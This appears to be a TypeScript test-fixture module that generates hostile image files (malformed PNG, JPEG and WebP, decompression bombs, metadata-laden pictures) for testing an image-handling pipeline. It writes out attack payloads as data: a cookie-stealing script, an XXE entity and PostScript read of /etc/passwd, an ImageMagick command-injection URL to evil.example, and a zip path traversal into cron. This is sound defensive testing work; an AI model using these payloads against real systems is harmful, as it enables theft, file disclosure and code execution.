// Malicious pictures, and ones that no phone takes.
import { gzipSync } from 'node:zlib';
import sharp from 'sharp';
import {
  jpegSaying,
  jpegSegment,
  png,
  PNG_MAGIC,
  pngChunk,
  pngHeader,
  webp,
  webpChunk,
  withSegments,
  zeros,
} from './bytes.ts';

export interface HostilePicture {
  readonly name: string;
  readonly bytes: Buffer;
}

const SCRIPT = '<script>alert(document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`;
const XXE = `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`;
const JPEG_MAGIC = Buffer.from([0xff, 0xd8, 0xff, 0xe0]);
const WEBP_MAGIC = Buffer.from('RIFF\x10\0\0\0WEBP', 'latin1');

const drawn = (width: number, height: number, channels: 3 | 4 = 3) =>
  sharp({ create: { width, height, channels, background: 'teal' } });
const latin = (text: string): Buffer => Buffer.from(text, 'latin1');

/** Other file types, alone and after the first bytes of a picture. */
const otherKinds = (): HostilePicture[] => {
  const kinds: Readonly<Record<string, Buffer>> = {
    nothing: Buffer.alloc(0),
    'one byte': Buffer.alloc(1, 0xff),
    'a drawing with a script': latin(SVG),
    'a drawing that reads a file': latin(XXE),
    'a packed drawing': gzipSync(SVG),
    'a page': latin(`<!doctype html>${SCRIPT}`),
    'a GIF': latin(
      'GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
    ),
    'a TIFF': latin('II*\0\x08\0\0\0\0\0\0\0'),
    'a HEIC': latin('\0\0\0\x18ftypheic\0\0\0\0mif1heic'),
    'a film': latin('\0\0\0\x18ftypmp42\0\0\0\0mp42isom'),
    'a PDF': latin('%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>endobj'),
    'a PostScript': latin('%!PS\n(/etc/passwd) (r) file'),
    'an ImageMagick script': latin('push graphic-context\nfill "url(https://evil.example/|id)"'),
    'an archive': latin('PK\x03\x04../../../../etc/cron.d/x'),
    'a program': latin('\x7fELF\x02\x01\x01'),
    'a bitmap of a negative width': latin(
      'BM\x36\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x81\xff\xff\xff\x01\0\0\0',
    ),
    'a PPM that overflows': latin('P6 4294967297 4294967297 255\n'),
  };
  return Object.entries(kinds).flatMap(([name, bytes]) => [
    { name, bytes },
    { name: `${name}, begun as a JPEG`, bytes: Buffer.concat([JPEG_MAGIC, bytes]) },
    { name: `${name}, begun as a PNG`, bytes: Buffer.concat([PNG_MAGIC, bytes]) },
    { name: `${name}, begun as a WebP`, bytes: Buffer.concat([WEBP_MAGIC, bytes]) },
  ]);
};

/** False sizes and lengths. */
const misled = (): HostilePicture[] => {
  const frame = webpChunk('ANMF', Buffer.alloc(16));
  return [
    { name: 'a PNG of 50,000 by 50,000', bytes: png({ width: 50_000, height: 50_000 }, zeros(1000)) },
    {
      name: 'a PNG of 2,147,483,647 a side',
      bytes: png({ width: 2 ** 31 - 1, height: 2 ** 31 - 1 }, zeros(9)),
    },
    { name: 'a PNG of no width', bytes: png({ width: 0, height: 9 }, zeros(9)) },
    {
      name: 'a PNG with a hundred thousand chunks',
      bytes: png(
        { width: 8, height: 8 },
        zeros(8 * 25),
        ...Array<Buffer>(100_000).fill(pngChunk('tEXt', latin('a\0b'))),
      ),
    },
    {
      name: 'a PNG with a chunk longer than itself',
      bytes: Buffer.concat([
        PNG_MAGIC,
        pngHeader({ width: 8, height: 8 }),
        pngChunk('IDAT', zeros(9), 0xff_ff_ff_ff),
      ]),
    },
    {
      name: 'a WebP of 16,384 by 16,384',
      bytes: webp(
        webpChunk('VP8X', latin('\0\0\0\0\xff\x3f\0\xff\x3f\0')),
        webpChunk('VP8 ', Buffer.alloc(64)),
      ),
    },
    {
      name: 'a WebP of ten thousand empty frames',
      bytes: webp(
        webpChunk('VP8X', latin('\x02\0\0\0\x08\0\0\x08\0\0')),
        webpChunk('ANIM', Buffer.alloc(6)),
        ...Array<Buffer>(10_000).fill(frame),
      ),
    },
  ];
};

/** Pictures that take much time or memory to decode. */
const bombs = async (): Promise<HostilePicture[]> => {
  const profile = Buffer.concat([latin('x\0\0'), zeros(64 * 1024 * 1024)]);
  const text = Buffer.concat([latin('Comment\0\0'), zeros(64 * 1024 * 1024)]);
  return [
    {
      name: 'a PNG of 24 megapixels and a row, all there',
      bytes: png({ width: 6000, height: 4001 }, zeros(6000 * 3 * 4001 + 4001)),
    },
    {
      name: 'a PNG of 24 megapixels, sixteen bits, interlaced',
      bytes: png(
        { width: 6000, height: 4000, bits: 16, colour: 6, interlaced: true },
        zeros(6000 * 8 * 4000 + 8 * 4000),
      ),
    },
    { name: 'a small PNG that unpacks to 100 MB', bytes: png({ width: 8, height: 8 }, zeros(100_000_000)) },
    {
      name: 'a PNG whose profile unpacks to 64 MB',
      bytes: png({ width: 8, height: 8 }, zeros(8 * 25), pngChunk('iCCP', profile)),
    },
    {
      name: 'a PNG whose comment unpacks to 64 MB',
      bytes: png({ width: 8, height: 8 }, zeros(8 * 25), pngChunk('zTXt', text)),
    },
    {
      name: 'a progressive JPEG of 24 megapixels',
      bytes: await drawn(6000, 4000).jpeg({ progressive: true }).toBuffer(),
    },
  ];
};

/** Valid pictures with data that must be removed. */
const laden = async (): Promise<HostilePicture[]> => {
  const jpeg = await drawn(64, 48).jpeg().toBuffer();
  const plain = await drawn(64, 48).png().toBuffer();
  const behind = {
    'a page': latin(SCRIPT),
    'an archive': latin('PK\x03\x04x'),
    'a megabyte': Buffer.alloc(1_000_000, 'A'),
  };
  const icc = Array.from({ length: 80 }, (_, i) =>
    jpegSegment(
      0xe2,
      Buffer.concat([latin(`ICC_PROFILE\0${String.fromCharCode(i + 1, 80)}`), Buffer.alloc(65_000, 'A')]),
    ),
  );
  const exif = {
    IFD0: { Copyright: 'Maria Keller', Make: SCRIPT },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 31/1 0/1' },
  };
  const frames = await drawn(16, 64).webp({ loop: 0 }).toBuffer();
  const turned = await Promise.all(
    [1, 2, 3, 4, 5, 6, 7, 8].map(async (orientation) => ({
      name: `a JPEG turned by ${orientation}`,
      bytes: await drawn(64, 48).jpeg().withMetadata({ orientation }).toBuffer(),
    })),
  );
  return [
    ...Object.entries(behind).flatMap(([what, bytes]) => [
      { name: `a JPEG with ${what} behind it`, bytes: Buffer.concat([jpeg, bytes]) },
      { name: `a PNG with ${what} behind it`, bytes: Buffer.concat([plain, bytes]) },
    ]),
    ...turned,
    { name: 'a JPEG with a place in it', bytes: await drawn(64, 48).jpeg().withExif(exif).toBuffer() },
    { name: 'a PNG with a place in it', bytes: await drawn(64, 48).png().withExif(exif).toBuffer() },
    { name: 'a WebP with a place in it', bytes: await drawn(64, 48).webp().withExif(exif).toBuffer() },
    {
      name: 'a JPEG with a script in its comment',
      bytes: withSegments(jpeg, jpegSegment(0xfe, latin(SCRIPT))),
    },
    {
      name: 'a JPEG with XMP',
      bytes: withSegments(jpeg, jpegSegment(0xe1, latin(`http://ns.adobe.com/xap/1.0/\0${SCRIPT}`))),
    },
    { name: 'a JPEG with a profile of 5 MB', bytes: withSegments(jpeg, ...icc) },
    { name: 'a JPEG that says it is 65,500 by 65,500', bytes: jpegSaying(jpeg, 65_500, 65_500) },
    { name: 'a JPEG that says it is of no height', bytes: jpegSaying(jpeg, 64, 0) },
    { name: 'a JPEG that says it is larger than it is', bytes: jpegSaying(jpeg, 4000, 3000) },
    { name: 'half a JPEG', bytes: jpeg.subarray(0, jpeg.length / 2) },
    { name: 'half a PNG', bytes: plain.subarray(0, plain.length / 2) },
    { name: 'half a WebP', bytes: frames.subarray(0, frames.length / 2) },
    { name: 'a JPEG for print', bytes: await drawn(64, 48).toColourspace('cmyk').jpeg().toBuffer() },
    { name: 'a PNG of sixteen bits', bytes: await drawn(64, 48, 4).toColourspace('rgb16').png().toBuffer() },
    { name: 'a PNG of one pixel', bytes: await drawn(1, 1).png().toBuffer() },
    { name: 'a PNG of 20,000 by 1', bytes: await drawn(20_000, 1).png().toBuffer() },
  ];
};

export const madeQuickly = async (): Promise<HostilePicture[]> => [
  ...otherKinds(),
  ...misled(),
  ...(await laden()),
];

export const madePictures = async (): Promise<HostilePicture[]> => [
  ...(await madeQuickly()),
  ...(await bombs()),
];
